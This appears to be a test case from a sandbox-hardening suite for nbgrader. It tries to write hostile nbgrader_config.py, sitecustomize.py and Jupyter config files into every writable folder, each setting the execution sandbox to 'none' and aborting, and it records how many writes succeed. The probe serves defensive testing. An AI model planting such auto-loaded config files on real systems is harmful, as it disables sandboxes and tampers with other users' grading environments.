# title = "An nbgrader_config.py is written into every folder that can be written to"
# trace = "written [1-9]\\d* times"
# verdicts = "failed"
# beside = "burglary"
#
# %% number
from burglary import places

text = "c = get_config()\nc.Execute.sandbox = 'none'\nraise SystemExit('hostile configuration')\n"
written = 0
for place in places():
    for name in ("nbgrader_config.py", "course.toml", "sitecustomize.py", "jupyter_config.py"):
        try:
            (place / name).write_text(text)
            written += 1
        except OSError:
            pass
print("written", written, "times")
number = 0
